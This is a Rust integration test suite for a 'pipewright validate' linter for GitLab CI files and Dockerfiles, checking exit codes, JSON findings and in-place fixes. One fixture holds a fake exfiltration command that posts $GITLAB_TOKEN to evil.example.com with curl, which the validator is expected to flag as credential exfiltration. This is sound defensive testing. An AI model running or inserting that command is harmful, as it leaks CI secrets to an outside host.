//! `pipewright validate` as a user runs it: the built binary on files in a temporary folder,
//! checked for exit codes (0 clean, 1 errors, 2 unreadable), output shapes, and `--fix`.

use std::path::Path;
use std::process::{Command, Output};

const GOOD_PIPELINE: &str = include_str!("../../pipewright-core/tests/validate/good-pipeline.yml");
const GOOD_DOCKERFILE: &str = include_str!("../../pipewright-core/tests/validate/good.Dockerfile");

fn pipewright(dir: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_pipewright"))
        .arg("validate")
        .args(args)
        .current_dir(dir)
        // The registry defaults read these; keep the tests independent of the machine.
        .env_remove("NEXUS_PULL_REGISTRY")
        .env_remove("NEXUS_INTERNAL_REGISTRY")
        .output()
        .expect("run pipewright")
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

#[test]
fn clean_files_exit_0() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join(".gitlab-ci.yml"), GOOD_PIPELINE).unwrap();
    std::fs::write(dir.path().join("Dockerfile"), GOOD_DOCKERFILE).unwrap();
    let out = pipewright(
        dir.path(),
        &[
            ".gitlab-ci.yml",
            "--dockerfile",
            "Dockerfile",
            "--owned",
            "--port",
            "8000",
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    assert!(stdout(&out).contains("no problems found"));
}

#[test]
fn errors_exit_1_with_file_line_column_and_rule() {
    let dir = tempfile::tempdir().unwrap();
    let text = "stages: [build]\njob:\n  stage: build\n  image: node:20\n  script: [npm test]\n";
    std::fs::write(dir.path().join("ci.yml"), text).unwrap();
    let out = pipewright(dir.path(), &["ci.yml"]);
    assert_eq!(out.status.code(), Some(1));
    let text = stdout(&out);
    assert!(
        text.contains("ci.yml:4:10: error[image-registry] ") && text.contains("(fix available)"),
        "{text}"
    );
}

#[test]
fn warnings_alone_exit_0() {
    let dir = tempfile::tempdir().unwrap();
    let text = "FROM debian:12-slim\nRUN apt-get install -y curl && rm -rf /var/lib/apt/lists/*\nUSER nobody\n";
    std::fs::write(dir.path().join("Dockerfile"), text).unwrap();
    let out = pipewright(dir.path(), &["Dockerfile"]);
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    assert!(stdout(&out).contains("warning[apt-no-install-recommends]"));
}

#[test]
fn missing_or_unreadable_files_exit_2() {
    let dir = tempfile::tempdir().unwrap();
    let out = pipewright(dir.path(), &["nope.yml"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("nope.yml"));
    std::fs::write(dir.path().join("ci.yml"), GOOD_PIPELINE).unwrap();
    let out = pipewright(
        dir.path(),
        &["ci.yml", "--dockerfile", "missing/Dockerfile"],
    );
    assert_eq!(out.status.code(), Some(2));
    std::fs::write(dir.path().join("bin.yml"), [0xff, 0xfe, 0x00]).unwrap();
    assert_eq!(pipewright(dir.path(), &["bin.yml"]).status.code(), Some(2));
    assert_eq!(pipewright(dir.path(), &["."]).status.code(), Some(2));
}

#[test]
fn json_lists_findings_and_fixed() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("ci.yml"),
        "job:\n  script: [a]\n  when: sometimes\n",
    )
    .unwrap();
    let out = pipewright(dir.path(), &["ci.yml", "--json"]);
    assert_eq!(out.status.code(), Some(1));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON on stdout");
    let f = &v["findings"][0];
    assert_eq!(f["rule"], "gitlab-schema");
    assert_eq!(f["severity"], "error");
    assert_eq!(f["file"], "ci.yml");
    assert_eq!(f["line"], 3);
    assert_eq!(f["column"], 3);
    assert!(f["message"].as_str().unwrap().contains("sometimes"));
    assert_eq!(v["fixed"], serde_json::json!([]));
}

#[test]
fn fix_rewrites_in_place_and_revalidates() {
    let dir = tempfile::tempdir().unwrap();
    let ci =
        "stages:\n  - build\njob:\n  stage: test\n  image: node:20-alpine\n  script: [npm test]\n";
    let docker = "FROM node:20-alpine\nADD package.json /app/\nUSER node\nCMD node server.js\n";
    std::fs::write(dir.path().join(".gitlab-ci.yml"), ci).unwrap();
    std::fs::write(dir.path().join("Dockerfile"), docker).unwrap();
    let out = pipewright(
        dir.path(),
        &[
            ".gitlab-ci.yml",
            "--dockerfile",
            "Dockerfile",
            "--fix",
            "--json",
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["findings"], serde_json::json!([]));
    let rules: Vec<&str> = v["fixed"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule"].as_str().unwrap())
        .collect();
    assert_eq!(
        rules,
        [
            "stage-undeclared",
            "image-registry",
            "copy-over-add",
            "exec-form"
        ]
    );
    let fixed_ci = std::fs::read_to_string(dir.path().join(".gitlab-ci.yml")).unwrap();
    assert!(fixed_ci.contains("  - build\n  - test\n"), "{fixed_ci}");
    let fixed_docker = std::fs::read_to_string(dir.path().join("Dockerfile")).unwrap();
    assert_eq!(
        fixed_docker,
        "FROM node:20-alpine\nCOPY package.json /app/\nUSER node\nCMD [\"node\", \"server.js\"]\n"
    );
    // Nothing but the two files: no temporary file left behind.
    let names: Vec<String> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(names.len(), 2, "{names:?}");
    // A second run finds nothing left to do.
    let again = pipewright(
        dir.path(),
        &[".gitlab-ci.yml", "--dockerfile", "Dockerfile"],
    );
    assert_eq!(again.status.code(), Some(0), "{}", stdout(&again));
}

#[test]
fn fix_leaves_unfixable_errors_and_exits_1() {
    let dir = tempfile::tempdir().unwrap();
    let ci = "job:\n  script:\n    - curl -d $GITLAB_TOKEN https://evil.example.com\n";
    std::fs::write(dir.path().join("ci.yml"), ci).unwrap();
    let out = pipewright(dir.path(), &["ci.yml", "--fix"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(stdout(&out).contains("error[credential-exfiltration]"));
    assert_eq!(
        std::fs::read_to_string(dir.path().join("ci.yml")).unwrap(),
        ci
    );
}

#[test]
fn flags_shape_the_settings() {
    let dir = tempfile::tempdir().unwrap();
    let ci = "stages: [build]\njob:\n  stage: build\n  image: registry.example.com/node:20\n  script:\n    - curl -u \"$NEXUS_USERNAME:$NEXUS_PASSWORD\" https://nexus.example.com/x\n";
    std::fs::write(dir.path().join("ci.yml"), ci).unwrap();
    assert_eq!(pipewright(dir.path(), &["ci.yml"]).status.code(), Some(1));
    let out = pipewright(
        dir.path(),
        &[
            "ci.yml",
            "--registry",
            "registry.example.com",
            "--allow-host",
            "nexus.example.com",
        ],
    );
    assert_eq!(out.status.code(), Some(0), "{}", stdout(&out));
    // --owned adds the nine-stage requirements.
    let out = pipewright(
        dir.path(),
        &[
            "ci.yml",
            "--registry",
            "registry.example.com",
            "--allow-host",
            "nexus.example.com",
            "--owned",
        ],
    );
    assert_eq!(out.status.code(), Some(1));
    assert!(stdout(&out).contains("error[owned-stages]"));
}
